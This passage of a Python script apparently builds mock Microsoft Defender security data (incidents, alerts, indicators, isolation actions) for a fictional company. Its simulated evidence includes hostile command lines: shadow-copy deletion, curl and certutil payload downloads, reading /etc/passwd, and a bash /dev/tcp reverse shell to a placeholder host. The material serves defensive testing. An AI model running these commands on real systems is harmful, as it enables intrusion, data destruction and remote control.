    [("ws-eng-042", "pua", [E_user(), ("file", "pua")], 0),
     ("ws-eng-042", "pua", [E_user(), ("file", "pua"), ("url", "http://download.freepdf-converter.xyz/FreePDFConverterSetup.exe")], 2)],
    assigned="bob@contoso.com")

inc("psexec", "Lateral movement using remote service creation on one endpoint", datetime(2026, 10, 29, 22, 5), "admin",
    [("srv-dc-01", "psexec", [E_user(), ("proc", "psexesvc", "C:\\Windows\\PSEXESVC.exe", "cmd"), ("file", "psexesvc")], 0),
     ("srv-file-01", "psexec", [E_user(), ("proc", "psexesvc", "C:\\Windows\\PSEXESVC.exe", "cmd"), ("file", "psexesvc")], 4),
     ("srv-sql-01", "psexec", [E_user(), ("proc", "psexesvc", "C:\\Windows\\PSEXESVC.exe", "cmd"), ("file", "psexesvc")], 9)],
    assigned="alice@contoso.com",
    comments=[("Scheduled patching by adm-jlee during change window CHG-20931.", "alice@contoso.com", 600)])

inc("ransom", "Ransomware activity on one endpoint", datetime(2026, 11, 3, 2, 47), "ransom",
    [("ws-hr-008", "asr_js", [E_user(), ("file", "jsdrop")], 0),
     ("ws-hr-008", "ransom_vss", [E_user(), ("proc", "vssadmin", "vssadmin.exe delete shadows /all /quiet", "cmd")], 21),
     ("ws-hr-008", "ransom_behav", [E_user(), ("proc", "locker", "\"C:\\ProgramData\\svcupdate\\svcupdate.exe\" -p 7719 --no-prop", "cmd"), ("file", "locker")], 22),
     ("ws-hr-008", "ransom_av", [E_user(), ("file", "locker")], 23),
     ("ws-hr-008", "c2", [E_user(), ("proc", "locker", "\"C:\\ProgramData\\svcupdate\\svcupdate.exe\" -p 7719 --no-prop", "cmd"), ("ip", "179.60.150.121")], 24)],
    assigned="alice@contoso.com", tags=["Ransomware"],
    comments=[("Device reimaged; user credentials reset.", "alice@contoso.com", 2000)])

inc("asr", "Office application blocked from creating executable content on one endpoint", datetime(2026, 11, 6, 11, 18), "new",
    [("ws-hr-003", "asr", [E_user(), ("proc", "winword", "\"WINWORD.EXE\" /n \"C:\\Users\\sroberts\\Downloads\\Invoice_8812.docm\" /o \"\"", "outlook"), ("file", "jsdrop")], 0),
     ("ws-hr-003", "asr_js", [E_user(), ("file", "jsdrop")], 1)])

inc("miner", "Cryptocurrency mining on one endpoint", datetime(2026, 11, 10, 3, 22), "inprogress",
    [("lnx-build-01", "miner_dl", [E_user(), ("proc", "curl", "curl -fsSL http://%s/kdevtmpfsi -o /tmp/.X11-cache/kdevtmpfsi" % MINER_IP, "bash"), ("url", "http://%s/kdevtmpfsi" % MINER_IP)], 0),
     ("lnx-build-01", "miner_av", [E_user(), ("file", "miner")], 2),
     ("lnx-build-01", "miner", [E_user(), ("proc", "miner", "/tmp/.X11-cache/kdevtmpfsi -o %s:443 --donate-level 1" % MINER_HOST, "bash"), ("ip", MINER_IP), ("url", "stratum+tcp://%s:443" % MINER_HOST)], 3),
     ("lnx-build-01", "miner", [E_user(), ("proc", "miner", "/tmp/.X11-cache/kdevtmpfsi -o %s:443 --donate-level 1" % MINER_HOST, "bash"), ("ip", MINER_IP)], 1450)],
    assigned="alice@contoso.com", tags=["CI"])

inc("adload", "'Adload' malware was detected on one endpoint", datetime(2026, 11, 12, 15, 40), "inprogress",
    [("mac-design-03", "adload", [E_user(), ("file", "adload")], 0),
     ("mac-design-03", "mac_launchagent", [E_user(), ("proc", "adload", "/Users/nwhite/Library/Application Support/.mdworker/mdworker_local -ks", "zsh"), ("file", "adload")], 1),
     ("mac-design-03", "mac_c2", [E_user(), ("proc", "adload", "/Users/nwhite/Library/Application Support/.mdworker/mdworker_local -ks", "zsh"), ("url", "https://%s/v1/report" % ADLOAD_HOST)], 3),
     ("mac-design-03", "adload", [E_user(), ("file", "adload")], 2900)],
    assigned="bob@contoso.com")

inc("sql", "Multi-stage incident involving Execution & Discovery on one endpoint", datetime(2026, 11, 15, 1, 9), "new",
    [("srv-sql-02", "sql_brute", [E_user(), ("proc", "cmd", "cmd.exe /c whoami /all & net group \"domain admins\" /domain & ipconfig /all", "sqlservr"), ("ip", SQL_IP)], 0),
     ("srv-sql-02", "sql_cmd", [E_user(), ("proc", "cmd", "cmd.exe /c certutil -urlcache -split -f http://%s/svchelper.exe C:\\Windows\\Temp\\svchelper.exe" % SQL_IP, "sqlservr")], 2),
     ("srv-sql-02", "certutil", [E_user(), ("proc", "certutil", "certutil -urlcache -split -f http://%s/svchelper.exe C:\\Windows\\Temp\\svchelper.exe" % SQL_IP, "cmd"),
                                 ("url", "http://%s/svchelper.exe" % SQL_IP), ("file", "svchelper")], 2),
     ("srv-sql-02", "meterpreter", [E_user(), ("file", "svchelper"), ("ip", SQL_IP)], 4),
     ("srv-sql-02", "c2", [E_user(), ("proc", "svchelper", "C:\\Windows\\Temp\\svchelper.exe", "cmd"), ("ip", SQL_IP)], 5)])

inc("web", "Web shell activity on one endpoint", datetime(2026, 11, 16, 20, 51), "active",
    [("lnx-web-01", "webshell", [E_user(), ("file", "webshell"), ("ip", WEB_IP)], 0),
     ("lnx-web-01", "webshell_av", [E_user(), ("file", "webshell")], 1),
     ("lnx-web-01", "web_child", [E_user(), ("proc", "bash", "sh -c id;uname -a;cat /etc/passwd", "apache2"), ("ip", WEB_IP)], 6),
     ("lnx-web-01", "web_child", [E_user(), ("proc", "curl", "curl -s http://%s/x.sh -o /tmp/x.sh" % WEB_IP, "apache2"), ("url", "http://%s/x.sh" % WEB_IP)], 9),
     ("lnx-web-01", "web_revshell", [E_user(), ("proc", "bash", "bash -i >& /dev/tcp/%s/4444 0>&1" % WEB_IP, "apache2"), ("ip", WEB_IP)], 11),
     ("lnx-web-02", "web_child", [E_user(), ("proc", "bash", "sh -c id;uname -a", "apache2"), ("ip", WEB_IP)], 95)],
    tags=["DMZ"])

inc("ti", "Connection to a custom network indicator on one endpoint", datetime(2026, 11, 24, 13, 37), "new",
    [("ws-sales-005", "custom_ti", [E_user(), ("proc", "msedge", "\"msedge.exe\" --single-argument https://%s/login" % INDICATOR_HOST, "outlook"),
                                    ("ip", INDICATOR_IP), ("url", "https://%s/login" % INDICATOR_HOST)], 0),
     ("ws-sales-005", "smartscreen", [E_user(), ("url", "https://%s/login" % INDICATOR_HOST)], 1),
     ("ws-fin-017", "custom_ti", [E_user(), ("proc", "msedge", "\"msedge.exe\" --single-argument https://%s/login" % INDICATOR_HOST, "outlook"),
                                  ("ip", INDICATOR_IP), ("url", "https://%s/login" % INDICATOR_HOST)], 62)])

# outcome -> (alert status, classification, determination, incident classification, incident determination, resolved?)
OUTCOMES = {
    "active": ("InProgress", "TruePositive", "Malware", "TruePositive", "MultiStagedAttack", False),
    "testing": ("Resolved", "TruePositive", "SecurityTesting", "TruePositive", "SecurityTesting", True),
    "expected": ("Resolved", "InformationalExpectedActivity", "SecurityTesting", "InformationalExpectedActivity", "SecurityTesting", True),
    "pua": ("Resolved", "TruePositive", "UnwantedSoftware", "TruePositive", "UnwantedSoftware", True),
    "admin": ("Resolved", "InformationalExpectedActivity", "SecurityPersonnel", "InformationalExpectedActivity", "SecurityPersonnel", True),
    "ransom": ("Resolved", "TruePositive", "Malware", "TruePositive", "Malware", True),
    "new": ("New", None, None, "Unknown", "NotAvailable", False),
    "inprogress": ("InProgress", "TruePositive", "Malware", "TruePositive", "Malware", False),
}
SEV_ORDER = ["Informational", "Low", "Medium", "High"]
RECOGNIZED_OS_FOR_AIR = ("Windows10", "Windows11", "WindowsServer2019", "WindowsServer2022")

incident_id = 48213
investigation_seq = 71402
investigations = []
INC_ALERTS = {}
for idef in INCIDENT_DEFS:
    incident_id += rng.randint(3, 60)
    idef["id"] = incident_id
    st, cls, det, icls, idet, resolved = OUTCOMES[idef["outcome"]]
    INC_ALERTS[incident_id] = []
    for n, (host, tkey, descs, off) in enumerate(idef["items"]):
        tpl = T[tkey]
        m = MBY[host]
        ext = M_EXTRA[host]
        # the device's primary (first-listed) logon user; SQL Server activity runs as svc-sql
        user_for_alert = ext["users"][0][0]
        first_ev = jitter(idef["start"] + timedelta(minutes=off), 0, 50)
        last_ev = jitter(first_ev, 0, 90)
        created = jitter(last_ev, 30, 240)
        status = st
        if idef["outcome"] == "active" and host != "ws-fin-014":
            status = "New"
        if idef["outcome"] == "inprogress" and n == len(idef["items"]) - 1:
            status = "New"
        a_cls, a_det = cls, det
        if status == "New":
            a_cls, a_det = (None, None) if idef["outcome"] != "active" else ("TruePositive", None)
        if resolved:
            resolved_t = jitter(created, 3600, 5 * 86400)
            last_upd = resolved_t
        else:
            resolved_t = None
            last_upd = jitter(created, 5, 3 * 3600) if status == "New" else jitter(created, 1800, 2 * 86400)
        if last_upd > NOW - timedelta(minutes=5):
            last_upd = NOW - timedelta(minutes=rng.randint(5, 90))
        assert last_upd >= created
        aid = mde_alert_id(created)
        rel_user = None if user_for_alert is None else {"userName": user_for_alert["accountName"], "domainName": user_for_alert["domainName"]}
        detstat = "Prevented" if tpl["source"] == "WindowsDefenderAv" and tkey in ("eicar", "ransom_av", "asr_js") else \
            ("Blocked" if tkey in ("asr", "custom_ti", "smartscreen") else "Detected")
        evidence = build_evidence(descs, first_ev, created, user_for_alert, detstat)
        # investigation (AIR) for Windows alerts that kick off one
        inv_id, inv_state = None, None
        if m["osPlatform"] not in RECOGNIZED_OS_FOR_AIR:
            inv_state = "UnsupportedOs"
        elif tpl["source"] == "WindowsDefenderSmartScreen" or tpl["source"] == "CustomerTI":
            inv_state = "UnsupportedAlertType"
        if (not idef.get("has_inv") and m["osPlatform"] in RECOGNIZED_OS_FOR_AIR and len(investigations) < 5
                and tpl["source"] not in ("WindowsDefenderSmartScreen", "CustomerTI")):
            idef["has_inv"] = True
            investigation_seq += rng.randint(7, 400)
            inv_id = investigation_seq
            inv_state = {"active": "PendingApproval", "testing": "SuccessfullyRemediated", "expected": "Benign",
                         "pua": "SuccessfullyRemediated", "admin": "Benign", "ransom": "PartiallyRemediated",
                         "new": "Running", "inprogress": "Running"}[idef["outcome"]]
            inv_start = jitter(created, 20, 200)
            inv_end = None if inv_state in ("Running", "PendingApproval") else jitter(inv_start, 600, 5400)
            investigations.append({
                "id": str(inv_id),
                "startTime": iso(inv_start, whole=True),
                "endTime": iso(inv_end, whole=True) if inv_end else None,
                "state": inv_state,
                "cancelledBy": None,
                "statusDetails": None,
                "machineId": m["id"],
                "computerDnsName": m["computerDnsName"],
                "triggeringAlertId": aid,
            })
        if inv_state is None:
            inv_state = "Queued" if status == "New" else ("Benign" if resolved and idef["outcome"] in ("expected", "admin") else
                                                          ("SuccessfullyRemediated" if resolved else "PartiallyInvestigated"))
        threat_family = tpl.get("threat")
        threat_name = None
        f_ev = [e for e in evidence if e["entityType"] == "File" and FILES[e["_fileKey"]]["detValue"]]
        if tpl["source"] == "WindowsDefenderAv" and f_ev:
            threat_name = FILES[f_ev[0]["_fileKey"]]["detValue"]
        comments = []
        if n == 0 and idef["comments"]:
            for text, by, cmin in idef["comments"]:
                ct = min(created + timedelta(minutes=cmin, seconds=rng.randint(0, 59)), last_upd)
                comments.append({"comment": text, "createdBy": by, "createdTime": iso(ct)})
        alert = {
            "id": aid,
            "incidentId": incident_id,
            "investigationId": inv_id,
            "assignedTo": idef["assigned"] if status != "New" else None,
            "severity": tpl["severity"],
            "status": status,
            "classification": a_cls,
            "determination": a_det,
            "investigationState": inv_state,
            "detectionSource": tpl["source"],
            "detectorId": detector(tpl["title"]),
            "category": tpl["category"],
            "threatFamilyName": threat_family,
            "title": tpl["title"],
            "description": tpl["desc"],
            "alertCreationTime": iso(created),
            "firstEventTime": iso(first_ev),
            "lastEventTime": iso(last_ev),
            "lastUpdateTime": iso(last_upd),
            "resolvedTime": iso(resolved_t) if resolved_t else None,
            "machineId": m["id"],
            "computerDnsName": m["computerDnsName"],
            "rbacGroupName": m["rbacGroupName"],
            "aadTenantId": TENANT_ID,
            "threatName": threat_name,
            "mitreTechniques": list(tpl["mitre"]),
            "relatedUser": rel_user,
            "comments": comments,
            "evidence": evidence,
        }
        alerts.append(alert)
        INC_ALERTS[incident_id].append(alert)
        ALERT_CTX[aid] = {"host": host, "user": user_for_alert, "created": created, "first": first_ev,
                          "last": last_ev, "last_upd": last_upd, "resolved": resolved_t, "tkey": tkey,
                          "descs": descs, "incident": idef}

# machine risk score from open alerts
for m in machines:
    open_sev = [a["severity"] for a in alerts if a["machineId"] == m["id"] and a["status"] != "Resolved"]
    any_sev = [a["severity"] for a in alerts if a["machineId"] == m["id"]]
    if open_sev:
        m["riskScore"] = max(open_sev, key=SEV_ORDER.index)
        if m["riskScore"] == "Informational":
            m["riskScore"] = "Low"
    elif any_sev:
        m["riskScore"] = "Low"
    else:
        m["riskScore"] = rng.choice(["None", "None", "None", "Informational", "Low"])

# ----------------------------------------------------------------- XDR incidents
def xdr_device(m):
    return {
        "mdatpDeviceId": m["id"], "aadDeviceId": m["aadDeviceId"], "deviceDnsName": m["computerDnsName"],
        "osPlatform": m["osPlatform"], "version": m["version"], "osProcessor": m["osProcessor"],
        "osBuild": m["osBuild"], "healthStatus": m["healthStatus"], "riskScore": m["riskScore"],
        "rbacGroupName": m["rbacGroupName"], "rbacGroupId": m["rbacGroupId"], "firstSeen": m["firstSeen"],
    }


def xdr_entity(e, machine_id):
    x = {k: None for k in ["entityType", "sha1", "sha256", "fileName", "filePath", "processId", "processCommandLine",
                           "processCreationTime", "parentProcessId", "parentProcessCreationTime", "ipAddress", "url",
                           "accountName", "domainName", "userSid", "aadUserId", "userPrincipalName",
                           "mailboxDisplayName", "mailboxAddress", "clusterBy", "sender", "recipient", "subject",
                           "deliveryAction", "securityGroupId", "securityGroupName", "registryHive", "registryKey",
                           "registryValueType", "registryValue", "deviceId"]}
    for k in x:
        if k in e and k != "deviceId":
            x[k] = e[k]
    if e["entityType"] in ("File", "Process", "Registry"):
        x["deviceId"] = machine_id
    return x


def strip_private(o):
    if isinstance(o, dict):
        return {k: strip_private(v) for k, v in o.items() if not k.startswith("_")}
    if isinstance(o, list):
        return [strip_private(v) for v in o]
    return o


incidents = []
for idef in INCIDENT_DEFS:
    iid = idef["id"]
    al = INC_ALERTS[iid]
    st, cls, det, icls, idet, resolved = OUTCOMES[idef["outcome"]]
    created = min(ALERT_CTX[a["id"]]["created"] for a in al) + timedelta(seconds=1)
    last_upd = max(ALERT_CTX[a["id"]]["last_upd"] for a in al)
    xalerts = []
    for a in al:
        m = next(mm for mm in machines if mm["id"] == a["machineId"])
        xalerts.append({
            "alertId": a["id"], "incidentId": iid, "serviceSource": "MicrosoftDefenderATP",
            "creationTime": a["alertCreationTime"], "lastUpdatedTime": a["lastUpdateTime"],
            "resolvedTime": a["resolvedTime"], "firstActivity": a["firstEventTime"], "lastActivity": a["lastEventTime"],
            "title": a["title"], "description": a["description"], "category": a["category"], "status": a["status"],
            "severity": a["severity"], "investigationId": a["investigationId"],
            "investigationState": a["investigationState"], "classification": a["classification"],
            "determination": a["determination"], "detectionSource": a["detectionSource"],
            "assignedTo": a["assignedTo"], "actorName": None, "threatFamilyName": a["threatFamilyName"],
            "mitreTechniques": list(a["mitreTechniques"]), "devices": [xdr_device(m)],
            "entities": [xdr_entity(e, m["id"]) for e in a["evidence"]],
        })
    comments = []
    for a in al:
        comments.extend(a["comments"])
    incidents.append({
        "incidentId": iid,
        "redirectIncidentId": None,
        "incidentName": idef["name"],
        "createdTime": iso(created),
        "lastUpdateTime": iso(last_upd),
        "assignedTo": idef["assigned"],
        "classification": icls,
        "determination": idet,
        "status": "Resolved" if all(a["status"] == "Resolved" for a in al) else "Active",
        "severity": max((a["severity"] for a in al), key=SEV_ORDER.index),
        "tags": list(idef["tags"]),
        "comments": comments,
        "alerts": xalerts,
    })
    idef["created"], idef["last_upd"] = created, last_upd

# ----------------------------------------------------------------- Graph alerts / incidents
GRAPH_DET = {"WindowsDefenderAtp": "microsoftDefenderForEndpoint", "WindowsDefenderAv": "antivirus",
             "CustomerTI": "customTi", "WindowsDefenderSmartScreen": "smartScreen",
             "CustomDetection": "customDetection", "AutomatedInvestigation": "automatedInvestigation"}


def g_enum(v, default="unknown"):
    return camel(v) if v else default


def g_file(f, user):
    return {"sha1": f["sha1"], "sha256": f["sha256"], "fileName": f["name"], "filePath": user_path(f["folder"], user),
            "fileSize": f["size"], "filePublisher": f["publisher"], "signer": f["signer"], "issuer": f["issuer"]}


def g_user_account(u):
    if u is None:
        return None
    return {"accountName": u["accountName"], "domainName": u["domainName"], "userSid": u["userSid"],
            "azureAdUserId": u["aadUserId"], "userPrincipalName": u["upn"], "displayName": u["displayName"]}


def g_remediation(a, f=None):
    if a["status"] == "Resolved" and (f is None or f["verdict"] == "malicious"):
        return "remediated"
    if f is not None and a["detectionSource"] == "WindowsDefenderAv":
        return "prevented" if any(e["detectionStatus"] == "Prevented" for e in a["evidence"]) else "none"
    return "none"


graph_alerts = []
for a in alerts:
    ctx = ALERT_CTX[a["id"]]
    m = MBY[ctx["host"]]
    user = ctx["user"]
    created = a["alertCreationTime"]
    ev = [{
        "@odata.type": "#microsoft.graph.security.deviceEvidence",
        "createdDateTime": created,
        "verdict": "suspicious" if a["severity"] in ("Medium", "High") and a["status"] != "Resolved" else "unknown",
        "remediationStatus": "none",
        "remediationStatusDetails": None,
        "firstSeenDateTime": m["firstSeen"],
        "mdeDeviceId": m["id"],
        "azureAdDeviceId": m["aadDeviceId"],
        "deviceDnsName": m["computerDnsName"],
        "osPlatform": m["osPlatform"],
        "osBuild": m["osBuild"],
        "version": m["version"],
        "healthStatus": camel(m["healthStatus"]),
        "riskScore": camel(m["riskScore"]),
        "rbacGroupId": m["rbacGroupId"],
        "rbacGroupName": m["rbacGroupName"],
        "onboardingStatus": "onboarded",
        "defenderAvStatus": "updated" if m["healthStatus"] == "Active" else "unknown",
        "ipInterfaces": [x["ipAddress"] for x in m["ipAddresses"]],
        "loggedOnUsers": [],
        "roles": ["compromised"] if a["severity"] == "High" else [],
        "detailedRoles": ["Main device"],
        "tags": list(m["machineTags"]),
        "vmMetadata": ({"vmId": M_EXTRA[ctx["host"]].setdefault("vmId", guid()), "cloudProvider": "azure",
                        "resourceId": "/subscriptions/0c5e6a51-7e7d-4f0b-9a3c-3f0f6f1c2d11/resourceGroups/rg-prod-eus/providers/Microsoft.Compute/virtualMachines/%s" % ctx["host"],
                        "subscriptionId": "0c5e6a51-7e7d-4f0b-9a3c-3f0f6f1c2d11"}
                       if "Azure" in m["machineTags"] else None),
    }]
    for e in a["evidence"]:
        if e["entityType"] == "File":
            f = FILES[e["_fileKey"]]
            ev.append({
                "@odata.type": "#microsoft.graph.security.fileEvidence",
                "createdDateTime": e["evidenceCreationTime"],
                "verdict": f["verdict"],
                "remediationStatus": g_remediation(a, f),
                "remediationStatusDetails": None,
                "detectionStatus": camel(e["detectionStatus"]) if e["detectionStatus"] else None,
                "mdeDeviceId": m["id"],
                "roles": [],
                "detailedRoles": [],
                "tags": [],
                "fileDetails": g_file(f, user),
            })
        elif e["entityType"] == "Process":
            f, pf = FILES[e["_fileKey"]], FILES[e["_parentKey"]]
            ev.append({
                "@odata.type": "#microsoft.graph.security.processEvidence",
                "createdDateTime": e["evidenceCreationTime"],
                "verdict": "malicious" if f["verdict"] == "malicious" else "suspicious",
                "remediationStatus": g_remediation(a, None) if f["verdict"] == "malicious" else "none",
                "remediationStatusDetails": None,
                "processId": e["processId"],
                "parentProcessId": e["parentProcessId"],
                "processCommandLine": e["processCommandLine"],
                "processCreationDateTime": e["processCreationTime"],
                "parentProcessCreationDateTime": e["parentProcessCreationTime"],
                "detectionStatus": "detected",
                "mdeDeviceId": m["id"],
                "roles": [],
                "detailedRoles": [],
                "tags": [],
                "imageFile": g_file(f, user),
                "parentProcessImageFile": g_file(pf, user),
                "userAccount": g_user_account(user),
            })
        elif e["entityType"] == "Registry":
            ev.append({
                "@odata.type": "#microsoft.graph.security.registryKeyEvidence",
                "createdDateTime": e["evidenceCreationTime"],
                "verdict": "suspicious",
                "remediationStatus": "remediated" if a["status"] == "Resolved" else "none",
                "remediationStatusDetails": None,
                "registryKey": e["registryKey"],
                "registryHive": e["registryHive"],
                "roles": [],
                "detailedRoles": [],
                "tags": [],
            })
        # User / Ip / Url evidence: the contract documents no Graph shape for these kinds -> not emitted.
    graph_alerts.append({
        "@odata.type": "#microsoft.graph.security.alert",
        "id": a["id"],
        "providerAlertId": a["id"],
        "incidentId": str(a["incidentId"]),
        "status": camel(a["status"]),
        "severity": camel(a["severity"]),
        "classification": g_enum(a["classification"]),
        "determination": g_enum(a["determination"]),
        "serviceSource": "microsoftDefenderForEndpoint",
        "detectionSource": GRAPH_DET[a["detectionSource"]],
        "detectorId": a["detectorId"],
        "tenantId": TENANT_ID,
        "title": a["title"],
        "description": a["description"],
        "recommendedActions": REC,
        "category": a["category"],
        "assignedTo": a["assignedTo"],
        "alertWebUrl": "https://security.microsoft.com/alerts/%s?tid=%s" % (a["id"], TENANT_ID),
        "incidentWebUrl": "https://security.microsoft.com/incidents/%d?tid=%s" % (a["incidentId"], TENANT_ID),
        "actorDisplayName": None,
        "threatDisplayName": a["threatName"],
        "threatFamilyName": a["threatFamilyName"],
        "mitreTechniques": list(a["mitreTechniques"]),
        "createdDateTime": a["alertCreationTime"],
        "lastUpdateDateTime": a["lastUpdateTime"],
        "resolvedDateTime": a["resolvedTime"],
        "firstActivityDateTime": a["firstEventTime"],
        "lastActivityDateTime": a["lastEventTime"],
        "comments": [],
        "evidence": ev,
        "systemTags": [],
    })

INC_DESC = {
    "phish": "Finance users received a remittance-advice phishing email. The attached macro document launched PowerShell, which staged a Cobalt Strike beacon from %s in %%appdata%% and beaconed to %s (%s)." % (PAYLOAD_HOST, C2_HOST, C2_IP),
    "mimi": "Mimikatz was executed on an application server during an authorised red-team exercise.",
    "eicar": "EICAR test files were downloaded on several workstations during an antivirus validation test.",
    "pua": "A user downloaded a bundled installer flagged as potentially unwanted software.",
    "psexec": "PsExec service creation on Tier-0/Tier-1 servers from an administrator account during a maintenance window.",
    "ransom": "A JavaScript downloader led to BlackCat ransomware execution; shadow copies were deleted before the ransomware was blocked.",
    "asr": "An attack surface reduction rule blocked Word from writing a JavaScript file to disk.",
    "miner": "A CoinMiner payload was downloaded into a hidden temp folder on the CI build server and connected to a mining pool.",
    "adload": "Adload adware installed a hidden launch agent on a macOS design workstation.",
    "sql": "SQL Server spawned a command shell used for discovery and a certutil download of a Meterpreter payload from %s." % SQL_IP,
    "web": "A PHP web shell was uploaded to the public web server and used to run commands and open a reverse shell to %s." % WEB_IP,
    "ti": "Devices connected to %s (%s), which matches a custom indicator blocking phishing infrastructure." % (INDICATOR_HOST, INDICATOR_IP),
}

graph_incidents = []
for idef, x in zip(INCIDENT_DEFS, incidents):
    graph_incidents.append({
        "@odata.type": "#microsoft.graph.security.incident",
        "id": str(x["incidentId"]),
        "incidentWebUrl": "https://security.microsoft.com/incidents/%d?tid=%s" % (x["incidentId"], TENANT_ID),
        "redirectIncidentId": None,
        "displayName": x["incidentName"],
        "tenantId": TENANT_ID,
        "createdDateTime": x["createdTime"],
        "lastUpdateDateTime": x["lastUpdateTime"],
        "assignedTo": x["assignedTo"],
        "classification": camel(x["classification"]),
        "determination": "unknown" if x["determination"] == "NotAvailable" else camel(x["determination"]),
        "status": camel(x["status"]),
        "severity": camel(x["severity"]),
        "customTags": list(x["tags"]),
        "comments": [dict(c) for c in x["comments"]],
        "systemTags": [],
        "description": INC_DESC[idef["key"]],
    })

# ----------------------------------------------------------------- indicators
APP1 = "11111111-1111-4111-8111-111111111111"
IND = [
    (C2_IP, "IpAddress", "AlertAndBlock", "High", "Cobalt Strike C2 - phishing campaign Nov 2026", datetime(2026, 11, 18, 16, 2), "app"),
    (C2_HOST, "DomainName", "AlertAndBlock", "High", "Cobalt Strike C2 domain", datetime(2026, 11, 18, 16, 4), "app"),
    (PAYLOAD_URL, "Url", "Block", "High", "PowerShell stager download URL", datetime(2026, 11, 18, 16, 6), "user"),
    (FILES["beacon"]["sha1"], "FileSha1", "BlockAndRemediate", "High", "Cobalt Strike beacon msupd.dll", datetime(2026, 11, 18, 16, 9), "app"),
    (FILES["xlsm"]["sha256"], "FileSha256", "BlockAndRemediate", "Medium", "Remittance advice macro document", datetime(2026, 11, 18, 16, 11), "user"),
    (INDICATOR_IP, "IpAddress", "Alert", "Medium", "Credential phishing landing page hosting", datetime(2026, 11, 2, 9, 30), "user"),
    (INDICATOR_HOST, "DomainName", "Warn", "Medium", "Credential phishing domain", datetime(2026, 11, 2, 9, 31), "user"),
    (FILES["psexesvc"]["sha256"], "FileSha256", "Allowed", "Informational", "Sysinternals PsExec used by IT operations", datetime(2026, 10, 30, 8, 15), "user"),
    ("F3B6E6AD2C8C8A1B7A5A6F9C1D2E3F4A5B6C7D8E", "CertificateThumbprint", "Audit", "Low", "Code signing cert of InstallCore bundles", datetime(2026, 10, 22, 10, 0), "user"),
]
indicators = []
ind_id = 8021
for val, typ, act, sev, title, created, who in IND:
    ind_id += rng.randint(1, 9)
    created = jitter(created, 0, 59)
    updated = jitter(created, 0, 3 * 86400)
    if updated > NOW:
        updated = NOW - timedelta(hours=1)
    if typ == "CertificateThumbprint":
        val = val.lower()
    src = "defender-functions (demo, secret)" if who == "app" else "alice@contoso.com"
    indicators.append({
        "id": str(ind_id),
        "indicatorValue": val,
        "indicatorType": typ,
        "action": act,
        "application": None if typ in ("FileSha1", "FileSha256", "CertificateThumbprint") else "demo-soar",
        "source": src,
        "sourceType": "AadApp" if who == "app" else "User",
        "title": title,
        "creationTimeDateTimeUtc": iso(created),
        "createdBy": APP1 if who == "app" else "alice@contoso.com",
        "expirationTime": None if act in ("Allowed", "Audit") else iso(datetime(2027, 5, 18 if created.month == 11 else 2), whole=True),
        "lastUpdateTime": iso(updated),
        "lastUpdatedBy": src,
        "severity": sev,
        "description": title + ". Added during incident response.",
        "recommendedActions": "Isolate affected devices and reset credentials of signed-in users." if sev == "High" else "Investigate the device timeline.",
        "rbacGroupNames": ["Finance Workstations"] if typ == "Url" else [],
    })

# ----------------------------------------------------------------- machine actions
fin14 = MBY["ws-fin-014"]
MA = [
    ("Isolate", "Full", "Succeeded", "ws-fin-014", "Isolate device - Cobalt Strike beacon (phishing incident)", datetime(2026, 11, 18, 11, 41), None),
    ("CollectInvestigationPackage", None, "Succeeded", "ws-fin-014", "Collect forensics for phishing incident", datetime(2026, 11, 18, 11, 44), None),
    ("RunAntiVirusScan", "Full", "Succeeded", "ws-fin-011", "Full scan after beacon detection", datetime(2026, 11, 18, 12, 3), None),
    ("StopAndQuarantineFile", None, "Succeeded", "ws-fin-022", "Quarantine msupd.dll", datetime(2026, 11, 19, 9, 22), {"fileIdentifier": FILES["beacon"]["sha1"], "fileIdentifierType": "Sha1"}),
    ("RestrictCodeExecution", None, "Failed", "srv-exch-01", "Restrict app execution - device not reporting", datetime(2026, 11, 21, 7, 55), None),
    ("RunAntiVirusScan", "Quick", "Succeeded", "ws-hr-008", "Quick scan before reimage", datetime(2026, 11, 3, 4, 12), None),
    ("Unisolate", "Full", "Succeeded", "srv-app-03", "Release after red-team exercise", datetime(2026, 10, 7, 9, 5), None),
]
machine_actions = []
for typ, scope, status, host, comment, created, rfi in MA:
    m = MBY[host]
    created = jitter(created, 0, 59)
    upd = jitter(created, 40, 900)
    machine_actions.append({
        "id": guid(), "type": typ, "scope": scope, "requestor": "alice@contoso.com" if typ != "RunAntiVirusScan" else APP1,
        "requestorComment": comment, "status": status, "machineId": m["id"], "computerDnsName": m["computerDnsName"],
        "creationDateTimeUtc": iso(created), "lastUpdateDateTimeUtc": iso(upd), "relatedFileInfo": rfi,
    })

# ----------------------------------------------------------------- files / ips / domains
files = []
seen_sha1 = set()
FILE_HOSTS = {}  # file key -> set(host)
for a in alerts:
    host = ALERT_CTX[a["id"]]["host"]
    for e in a["evidence"]:
        for key in (e.get("_fileKey"), e.get("_parentKey")):
            if key:
                FILE_HOSTS.setdefault(key, set()).add(host)
for key in FILES:
    if key not in FILE_HOSTS:
        continue
    f = FILES[key]
    seen_sha1.add(f["sha1"])
    org_first = min(M_EXTRA[h]["first"] for h in FILE_HOSTS[key]) if f["verdict"] == "unknown" else \
        min(ALERT_CTX[a["id"]]["first"] for a in alerts for e in a["evidence"] if e.get("_fileKey") == key or e.get("_parentKey") == key)
    org_first = org_first - timedelta(minutes=1)
    org_last = max(org_first + timedelta(minutes=rng.randint(5, 600)), NOW - timedelta(hours=rng.randint(1, 48))) \
        if f["verdict"] == "unknown" else org_first + timedelta(hours=rng.randint(1, 30))
    glast = max(org_last, NOW - timedelta(hours=rng.randint(1, 72)))
    orgprev = len(FILE_HOSTS[key]) if f["verdict"] != "unknown" else rng.randint(len(FILE_HOSTS[key]), 400)
    files.append({
        "file": {
            "sha1": f["sha1"], "sha256": f["sha256"], "md5": f["md5"],
            "globalPrevalence": f["gprev"], "globalFirstObserved": iso(f["gfirst"]), "globalLastObserved": iso(glast),
            "size": f["size"], "fileType": f["ftype"], "isPeFile": f["pe"], "filePublisher": f["publisher"],
            "fileProductName": f["product"], "signer": f["signer"], "issuer": f["issuer"], "signerHash": f["signerHash"],
            "isValidCertificate": f["valid"], "determinationType": f["detType"], "determinationValue": f["detValue"],
        },
        "stats": {
            "sha1": f["sha1"], "organizationPrevalence": orgprev,
            "orgFirstSeen": iso(org_first, whole=True), "orgLastSeen": iso(org_last, whole=True),
            "globallyPrevalence": f["gprev"], "globalFirstObserved": iso(f["gfirst"]), "globalLastObserved": iso(glast),
            "topFileNames": [f["name"]],
        },
    })

ev_ips = []
ev_urls = []
IP_FIRST = {}
for a in alerts:
    ctx = ALERT_CTX[a["id"]]
    for e in a["evidence"]:
        if e["ipAddress"]:
            if e["ipAddress"] not in ev_ips:
                ev_ips.append(e["ipAddress"])
